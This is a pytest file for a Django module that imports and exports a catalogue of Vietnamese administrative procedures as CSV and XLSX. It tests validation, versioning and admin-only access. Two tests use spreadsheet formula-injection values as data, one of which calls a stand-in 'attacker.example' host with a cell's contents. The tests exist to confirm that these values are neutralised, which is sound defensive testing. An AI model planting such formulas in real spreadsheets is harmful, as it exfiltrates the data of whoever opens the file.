import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from shared_apps.catalogue.io import (
    COLUMNS,
    ImportFailed,
    catalogue_export_csv,
    catalogue_export_xlsx,
    catalogue_import,
)
from shared_apps.catalogue.models import Procedure, ProcedureVersion

pytestmark = pytest.mark.django_db

GOOD = {
    "ma_thu_tuc": "1.004227",
    "ten_thu_tuc": "Đăng ký khai tử",
    "ma_linh_vuc": "ho-tich",
    "ten_linh_vuc": "Hộ tịch",
    "cap_thuc_hien": "commune",
    "kenh_nop": "in_person;online;post",
    "muc_do": "full",
    "thoi_han": "1",
    "don_vi_thoi_han": "working_days",
    "gio_chot": "15:00",
    "can_cu_phap_ly": "Luật Hộ tịch số 60/2014/QH13\nNghị định 123/2015/NĐ-CP",
    "thanh_phan_ho_so": "Tờ khai đăng ký khai tử | original | 1 | required\nGiấy báo tử | original | 1 | required",
    "phi_le_phi": "Lệ phí đăng ký khai tử | 0 | UBND cấp xã",
    "hieu_luc_tu": "01/07/2025",
    "nguon": "Quyết định công bố TTHC lĩnh vực hộ tịch",
    "ghi_chu": "",
}


def csv_bytes(rows):
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


def test_a_good_file_is_imported_and_published():
    second = {**GOOD, "ma_thu_tuc": "1.001193", "ten_thu_tuc": "Đăng ký khai sinh"}
    report = catalogue_import(data=csv_bytes([GOOD, second]), filename="tt.csv", acting_user=None)
    assert sorted(report.created) == ["1.001193", "1.004227"]
    version = ProcedureVersion.objects.get(procedure__national_code="1.004227")
    assert version.status == "published" and version.components.count() == 2
    assert version.cutoff.strftime("%H:%M") == "15:00"


def test_an_import_with_one_bad_row_imports_nothing_and_names_the_row():
    bad = {**GOOD, "ma_thu_tuc": "1.000002", "thoi_han": "ba ngày"}
    rows = [GOOD, {**GOOD, "ma_thu_tuc": "1.000001"}, bad]
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=csv_bytes(rows), filename="tt.csv", acting_user=None)
    assert [row for row, _message in info.value.errors] == [4]
    assert "ba ngày" in info.value.errors[0][1]
    assert Procedure.objects.count() == 0


def test_every_bad_row_is_reported_at_once():
    rows = [{**GOOD, "cap_thuc_hien": "galaxy"}, GOOD, {**GOOD, "thanh_phan_ho_so": "chỉ có tên"}]
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=csv_bytes(rows), filename="tt.csv", acting_user=None)
    rows_with_errors = sorted({row for row, _m in info.value.errors})
    assert rows_with_errors == [2, 3, 4]  # row 3 repeats the code of row 2... and row 4 has a bad component
    assert any("trùng" in m for _r, m in info.value.errors)


def test_a_missing_column_is_reported_on_the_header_row():
    data = b"ma_thu_tuc,ten_thu_tuc\n1.000001,X\n"
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=data, filename="tt.csv", acting_user=None)
    assert info.value.errors[0][0] == 1 and "Thiếu cột" in info.value.errors[0][1]


def test_reimporting_the_same_file_changes_nothing_and_a_changed_row_makes_a_new_version():
    catalogue_import(data=csv_bytes([GOOD]), filename="tt.csv", acting_user=None)
    again = catalogue_import(data=csv_bytes([GOOD]), filename="tt.csv", acting_user=None)
    assert again.unchanged == ["1.004227"] and not again.created and not again.updated
    changed = catalogue_import(
        data=csv_bytes([{**GOOD, "thoi_han": "2"}]), filename="tt.csv", acting_user=None
    )
    assert changed.updated == ["1.004227"]
    numbers = sorted(
        ProcedureVersion.objects.filter(procedure__national_code="1.004227").values_list("number", flat=True)
    )
    assert numbers == [1, 2]


def test_xlsx_export_round_trips_through_import():
    catalogue_import(data=csv_bytes([GOOD]), filename="tt.csv", acting_user=None)
    data = catalogue_export_xlsx()
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]][: len(COLUMNS)] == COLUMNS
    assert sheet["B2"].value == "Đăng ký khai tử"
    report = catalogue_import(data=data, filename="export.xlsx", acting_user=None)
    assert report.unchanged == ["1.004227"]


def test_an_xlsx_file_with_a_bad_row_imports_nothing():
    wb = Workbook()
    ws = wb.active
    ws.append(COLUMNS)
    ws.append([GOOD[c] for c in COLUMNS])
    ws.append([{**GOOD, "ma_thu_tuc": "x"}[c] for c in COLUMNS])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=buf.getvalue(), filename="tt.xlsx", acting_user=None)
    assert info.value.errors[0][0] == 3
    assert Procedure.objects.count() == 0


def test_export_neutralises_spreadsheet_formulas():
    catalogue_import(
        data=csv_bytes([{**GOOD, "ghi_chu": '=HYPERLINK("http://x")'}]), filename="tt.csv", acting_user=None
    )
    text = catalogue_export_csv()
    assert "'=HYPERLINK" in text


def test_import_api_reports_rows_and_refuses_non_admins(client, city):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("tt.csv", csv_bytes([{**GOOD, "muc_do": "level-4"}]), content_type="text/csv")
    client.force_login(city.officer_a)
    assert client.post("/api/v1/catalogue/import/", {"file": upload}).status_code == 403
    client.force_login(city.city_admin)
    upload.seek(0)
    response = client.post("/api/v1/catalogue/import/", {"file": upload})
    assert response.status_code == 400
    assert response.json()["errors"][0]["row"] == 2
    upload = SimpleUploadedFile("tt.csv", csv_bytes([GOOD]), content_type="text/csv")
    assert client.post("/api/v1/catalogue/import/", {"file": upload}).json()["created"] == ["1.004227"]


def test_the_shipped_starter_catalogue_imports_cleanly():
    from django.core.management import call_command

    call_command("import_catalogue")
    assert Procedure.objects.count() >= 40
    levels = [set(v.levels) for v in ProcedureVersion.objects.filter(status="published")]
    assert sum("commune" in lv for lv in levels) >= 15
    assert sum("department" in lv for lv in levels) >= 15
    assert ProcedureVersion.objects.filter(procedure__national_code="1.001193", status="published").exists()


def _xlsx(rows):
    wb = Workbook()
    ws = wb.active
    ws.append(COLUMNS)
    for row in rows:
        ws.append([row[c] for c in COLUMNS])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_formula_in_an_uploaded_sheet_is_never_evaluated_or_stored():
    evil = {**GOOD, "ten_thu_tuc": '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'}
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=_xlsx([evil]), filename="tt.xlsx", acting_user=None)
    assert [row for row, _message in info.value.errors] == [
        2
    ]  # read as its (absent) value: a clear row error
    assert Procedure.objects.count() == 0


def test_a_huge_sheet_is_refused_before_it_is_read(monkeypatch):
    from shared_apps.catalogue import io as catalogue_io

    monkeypatch.setattr(catalogue_io, "MAX_ROWS", 5)
    rows = [{**GOOD, "ma_thu_tuc": f"1.{900000 + i}"} for i in range(7)]
    with pytest.raises(ImportFailed) as info:
        catalogue_import(data=_xlsx(rows), filename="tt.xlsx", acting_user=None)
    assert "quá nhiều dòng" in info.value.errors[0][1]
    assert Procedure.objects.count() == 0
